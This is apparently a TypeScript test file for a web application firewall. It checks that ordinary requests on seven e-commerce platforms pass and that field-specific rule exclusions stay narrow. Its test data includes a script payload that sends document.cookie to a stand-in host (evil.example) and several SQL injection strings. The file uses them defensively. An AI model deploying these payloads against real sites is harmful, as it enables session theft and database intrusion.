import assert from "node:assert/strict"
import { test } from "node:test"
import { findRuleSet } from "../../src/cli/waf/rule-set.ts"
import { profileById } from "../../src/platforms/profiles.ts"
import { wafExclusions } from "../../src/platforms/waf-exclusions.ts"
import { createEngine, type Engine } from "../../src/waf/index.ts"
import { noShared, sharedFile } from "../needs.ts"

/** What a shopper's or a clerk's browser sends: nothing of it may be refused by the rules a shop would run. */
interface Visit {
  readonly platform: string
  readonly what: string
  readonly method?: string
  readonly target: string
  readonly fields?: Readonly<Record<string, string>>
  readonly json?: unknown
  readonly multipart?: string
  readonly headers?: readonly (readonly [string, string])[]
}

const COOKIES = [
  "eccube=0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d",
  "_ga=GA1.1.1234567890.1700000000",
  "_ga_ABC1234567=GS1.1.1700000000.3.1.1700000100.0.0.0",
  "_fbp=fb.1.1700000000000.1234567890",
  "_gcl_au=1.1.123456789.1700000000",
  "CookieConsent=%7B%22necessary%22%3Atrue%2C%22stamp%22%3A%22%2Da%3D%3D%22%2C%22method%22%3A%22explicit%22%7D",
  "woocommerce_cart_hash=5d41402abc4b2a76b9719d911017c592",
  "wordpress_logged_in_59d445bc=taro%7C1700000000%7Cabc%7C0123456789abcdef",
  "sbjs_first=typ%3Dtypein%7C%7C%7Csrc%3D%28direct%29%7C%7C%7Cmdm%3D%28none%29",
  "recently=%5B12%2C34%2C56%5D",
].join("; ")

const BROWSER: readonly (readonly [string, string])[] = [
  ["Host", "shop.example.jp"],
  ["Connection", "keep-alive"],
  ["sec-ch-ua", '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"'],
  ["sec-ch-ua-mobile", "?0"],
  ["sec-ch-ua-platform", '"Windows"'],
  ["Upgrade-Insecure-Requests", "1"],
  ["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"],
  ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"],
  ["Sec-Fetch-Site", "same-origin"],
  ["Sec-Fetch-Mode", "navigate"],
  ["Referer", "https://shop.example.jp/products/list?category_id=&name=%E3%81%8A%E8%8C%B6&orderby=1"],
  ["Accept-Encoding", "gzip, deflate, br, zstd"],
  ["Accept-Language", "ja,en-US;q=0.9,en;q=0.8"],
  ["Cookie", COOKIES],
] // prettier-ignore

const entry = {
  "entry[_token]": "434db25d0.CHnJ1_EYWKy6EE",
  "entry[name][name01]": "山田",
  "entry[name][name02]": "太郎",
  "entry[kana][kana01]": "ヤマダ",
  "entry[kana][kana02]": "タロウ",
  "entry[company_name]": "株式会社A&B 'ショップ'",
  "entry[postal_code]": "5810000",
  "entry[address][addr01]": "八尾市大字山畑",
  "entry[address][addr02]": '1-1 ハイツ"南" #203',
  "entry[email][first]": "taro.yamada+shop@example.ne.jp",
  "entry[plain_password][first]": "Pa$$w0rd' or 1=1--",
  "entry[plain_password][second]": "Pa$$w0rd' or 1=1--",
  mode: "complete",
}

const HTML = `<h2 style="color:#c00">新茶</h2><p>産地:<b>静岡</b><br>※<span style="font-size:12px">数量限定</span></p>
<img src="/html/upload/save_image/0101.jpg" alt="新茶" width="600"><table border="1"><tr><th>内容量</th><td>100g</td></tr></table>
<iframe width="560" height="315" src="https://www.youtube.com/embed/abc" allowfullscreen></iframe><!-- コメント -->`

const TWIG = `{% extends 'default_frame.twig' %}{% block main %}<script>$(function(){ $('#a').on('click', function(){ alert("ok"); }); });</script>
{{ include('Block/header.twig') }}{% for p in products %}<a href="{{ url('product_detail', {'id': p.id}) }}">{{ p.name|e }}</a>{% endfor %}{% endblock %}`

const VISITS: readonly Visit[] = [
  { platform: "ec-cube-4", what: "list", target: "/products/list?category_id=2&name=%E3%81%8A%E8%8C%B6+%22%E6%96%B0%E8%8C%B6%22&pageno=2&disp_number=20&orderby=1" },
  { platform: "ec-cube-4", what: "from an advertisement", target: "/?utm_source=google&utm_medium=cpc&utm_campaign=%E5%86%AC%E3%81%AE%E3%82%BB%E3%83%BC%E3%83%AB_2026&gclid=Cj0KCQiA-abc_DEF&fbclid=IwAR0-abc_123" },
  { platform: "ec-cube-4", what: "register", target: "/entry", fields: entry },
  { platform: "ec-cube-4", what: "log in", target: "/mypage/login", fields: { login_email: "o'neil@example.com", login_pass: "' or '1'='1'; --<x>", _csrf_token: "3969518.Bkdux-BOo-p4BWI-", _target_path: "/shopping" } },
  { platform: "ec-cube-4", what: "cart", target: "/products/add_cart/2", fields: { quantity: "1", product_id: "2", ProductClass: "11", classcategory_id1: "3", _token: "e091256c670997ec.T0e" } },
  { platform: "ec-cube-4", what: "order with a note", target: "/shopping/confirm", fields: { "_shopping_order[_token]": "9e1b54c59ed82bbbdeb9.c6H", "_shopping_order[Shippings][0][Delivery]": "1", "_shopping_order[Payment]": "1", "_shopping_order[message]": "不在時は「宅配ボックス」へ。\r\n14時〜16時 or 夜(18時以降)希望;領収書は'上様'で -- 山田\r\nTEL: 03-1234-5678" } },
  { platform: "ec-cube-4", what: "contact", target: "/contact", fields: { "contact[name][name01]": "O'Brien", "contact[email]": "a@example.jp", "contact[contents]": "商品A & B の在庫は?\r\n1. 色は <黒>\r\n2. サイズ: M or L\r\nURL: https://shop.example.jp/products/detail/12?x=1&y=2#top" } },
  { platform: "ec-cube-4", what: "a clerk saves a product", target: "/admin/product/product/3/edit", fields: { "admin_product[name]": "新茶 100g", "admin_product[description_detail]": HTML, "admin_product[description_list]": "<b>新茶</b>", "admin_product[free_area]": HTML, "admin_product[class][price02]": "1080" } },
  { platform: "ec-cube-4", what: "a clerk saves a page", target: "/admin/content/page/12/edit", fields: { "main_edit[name]": "特集", "main_edit[tpl_data]": TWIG } },
  { platform: "ec-cube-4", what: "a clerk writes news", target: "/admin/content/news/1/edit", fields: { "admin_news[title]": "年末年始の営業", "admin_news[description]": HTML } },
  { platform: "woocommerce", what: "classic checkout", target: "/?wc-ajax=checkout", fields: { billing_first_name: "太郎", billing_address_1: "滋賀県大津市大江3-1", order_comments: "I'd like it before 12/24; thanks -- Taro", account_password: "a'b\"c--", payment_method: "cod", "woocommerce-process-checkout-nonce": "3353841028", _wp_http_referer: "/?wc-ajax=update_order_review", wc_order_attribution_user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", wc_order_attribution_session_entry: "https://shop.example.jp/product/cup/?add-to-cart=18" } },
  { platform: "woocommerce", what: "update of the review", target: "/?wc-ajax=update_order_review", fields: { security: "abc", payment_method: "cod", post_data: "billing_first_name=%E5%A4%AA%E9%83%8E&billing_address_1=%E5%A4%A7%E6%B1%9F&wc_order_attribution_user_agent=Mozilla%2F5.0%20(Windows%20NT%2010.0)&order_comments=it%27s%20ok" } },
  { platform: "woocommerce", what: "block checkout", target: "/wp-json/wc/store/v1/checkout", json: { billing_address: { first_name: "Taro", last_name: "O'Hara", address_1: "1-1 Chiyoda", state: "JP13", postcode: "100-0001" }, customer_note: "M or L? \"gift\" -- thanks", payment_data: [{ key: "wc-token", value: "tok_1AbC" }], extensions: {} } },
  { platform: "woocommerce", what: "log in", target: "/my-account/", fields: { username: "taro@example.com", password: "x' union select 1--", "woocommerce-login-nonce": "d37d7ff9ae", _wp_http_referer: "/my-account/", login: "Log in" } },
  { platform: "woocommerce", what: "a clerk saves a product", target: "/wp-admin/post.php", fields: { post_title: "Cup", content: HTML, excerpt: "<b>x</b>", _wpnonce: "abc", _wp_http_referer: "/wp-admin/post.php?post=18&action=edit" } },
  { platform: "woocommerce", what: "the block editor saves", target: "/wp-json/wp/v2/pages/7?_locale=user", json: { title: "特集", content: `<!-- wp:html -->${HTML}<!-- /wp:html -->`, excerpt: "<b>x</b>" } },
  { platform: "evershop", what: "a clerk saves a product", target: "/api/products", json: { name: "Cup", description: [{ id: "r__1", columns: [{ data: { blocks: [{ type: "raw", data: { html: HTML } }] } }] }] } },
  { platform: "opencart", what: "log in", target: "/index.php?route=account/login.login&language=en-gb&login_token=abc", fields: { email: "a@example.com", password: "1' or '1'='1", redirect: "" } },
  { platform: "opencart", what: "a clerk saves a product", target: "/admin/index.php?route=catalog/product.save&user_token=0123456789abcdef", fields: { "product_description[1][name]": "Cup", "product_description[1][description]": HTML, model: "C-1" } },
  { platform: "magento", what: "GraphQL", target: "/graphql", json: { query: "query getProducts($search: String!) { products(search: $search, pageSize: 20) { items { name sku price_range { minimum_price { final_price { value } } } } } }", variables: { search: "お茶" } } },
  { platform: "vendure", what: "GraphQL mutation", target: "/shop-api", json: { operationName: "AddItem", query: "mutation AddItem($id: ID!, $qty: Int!) { addItemToOrder(productVariantId: $id, quantity: $qty) { __typename ... on Order { id code total } } }", variables: { id: "12", qty: 1 } } },
  { platform: "evershop", what: "log in", target: "/customer/login", json: { email: "a@example.com", password: "x' or 1=1--" } },
  { platform: "generic", what: "a review with a picture", target: "/review", multipart: "お茶の色が \"きれい\" です (^_^)\r\n5/5 -- また買います; 親にも1つ" },
  { platform: "generic", what: "an order by XHR", target: "/api/order", json: { items: [{ sku: "A-1", qty: 2, note: "熨斗は'御祝'" }], coupon: "SAVE10%", address: "大阪府八尾市大字山畑1-2 ハイツ＜南＞", return_url: "https://shop.example.jp/thanks?order=1&x=2" }, headers: [["X-Requested-With", "XMLHttpRequest"]] },
  { platform: "generic", what: "a phone", target: "/search?q=%E3%83%A1%E3%83%B3%E3%82%BA%20T%E3%82%B7%E3%83%A3%E3%83%84%20%28%E9%BB%92%20or%20%E7%99%BD%29&min=1000&max=5000&sort=price+asc" },
] // prettier-ignore

const BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
)

const bodyOf = (visit: Visit): { readonly type: string; readonly body: Buffer } | null => {
  if (visit.json !== undefined) return { type: "application/json", body: Buffer.from(JSON.stringify(visit.json)) }
  if (visit.fields !== undefined)
    return {
      type: "application/x-www-form-urlencoded",
      body: Buffer.from(new URLSearchParams({ ...visit.fields }).toString()),
    }
  if (visit.multipart === undefined) return null
  const part = (head: string): string => `--${BOUNDARY}\r\nContent-Disposition: form-data; ${head}\r\n\r\n`
  return {
    type: `multipart/form-data; boundary=${BOUNDARY}`,
    body: Buffer.concat([
      Buffer.from(`${part('name="comment"')}${visit.multipart}\r\n`),
      Buffer.from(`${part('name="photo"; filename="写真 (1).png"\r\nContent-Type: image/png')}`),
      PNG,
      Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
    ]),
  }
}

/** The rules that refuse a visit; null where it passes. */
const refusal = (engine: Engine, visit: Visit): string | null => {
  const sent = bodyOf(visit)
  const transaction = engine.transaction({
    remoteAddress: "203.0.113.9",
    remotePort: 50_000,
    serverAddress: "192.0.2.1",
    serverPort: 443,
    uniqueId: "u",
    startedAtMs: 1_700_000_000_000,
  })
  const headers: (readonly [string, string])[] = [...BROWSER, ...(visit.headers ?? [])]
  if (sent !== null)
    headers.push(
      ["Content-Type", sent.type],
      ["Content-Length", String(sent.body.length)],
      ["Origin", "https://shop.example.jp"],
    )
  const decision =
    transaction.request(visit.method ?? (sent === null ? "GET" : "POST"), visit.target, "HTTP/1.1", headers) ??
    (sent === null ? null : transaction.bodyChunk(sent.body)) ??
    transaction.endBody()
  const { matches } = transaction.end()
  return decision === null
    ? null
    : matches.map((match) => `${match.ruleId} ${match.variables.map(({ name }) => name).join(" ")}`).join(", ")
}

const engineFor = (platform: string, crs: boolean): Engine => {
  const profile = profileById(platform)
  assert.ok(profile, platform)
  const set = findRuleSet({
    dataDir: "/nowhere",
    folder: crs ? sharedFile("waf/crs-4.28.0") : undefined,
    exclusions: wafExclusions(profile, "https://shop.example.jp/admin/"),
  })
  return createEngine(set.files, set)
}

const SETS: readonly (readonly [name: string, crs: boolean, absent: string | false])[] = [
  ["our own base rules", false, false],
  ["the OWASP rules at level 1", true, noShared("waf/crs-4.28.0/rules")],
]

for (const [name, crs, absent] of SETS) {
  test(`${name}: what shoppers and clerks of seven platforms send is not refused`, { skip: absent }, (t) => {
    const wrong: string[] = []
    const platforms = new Set(VISITS.map(({ platform }) => platform))
    for (const platform of platforms) {
      const engine = engineFor(platform, crs)
      for (const visit of VISITS.filter((one) => one.platform === platform)) {
        const by = refusal(engine, visit)
        if (by !== null) wrong.push(`${visit.platform}, ${visit.what}: ${by}`)
      }
    }
    t.diagnostic(`${VISITS.length} visits on ${platforms.size} platforms, ${wrong.length} refused`)
    assert.deepEqual(wrong, [])
    assert.ok(VISITS.length >= 20 && platforms.size >= 7)
  })

  test(`${name}: an exclusion is for its field and its page only`, { skip: absent }, () => {
    const engine = engineFor("ec-cube-4", crs)
    const script = "<script>fetch('//evil.example/'+document.cookie)</script>"
    const ask = (target: string, fields: Record<string, string>): boolean =>
      refusal(engine, { platform: "ec-cube-4", what: "", target, fields }) !== null
    assert.equal(ask("/admin/product/product/3/edit", { "admin_product[description_detail]": script }), false)
    assert.equal(ask("/admin/product/product/3/edit", { "admin_product[name]": script }), true)
    assert.equal(ask("/contact", { "admin_product[description_detail]": script }), true)
    // Markup is let through there, statements are not.
    assert.equal(
      ask("/admin/product/product/3/edit", { "admin_product[description_detail]": "1' union select 1,2 from users--" }),
      true,
    )
    assert.equal(ask("/mypage/login", { login_email: "' or '1'='1' --", login_pass: "x" }), true)
    assert.equal(ask("/mypage/login", { login_email: "a@example.jp", login_pass: "' or '1'='1' --" }), false)
  })
}
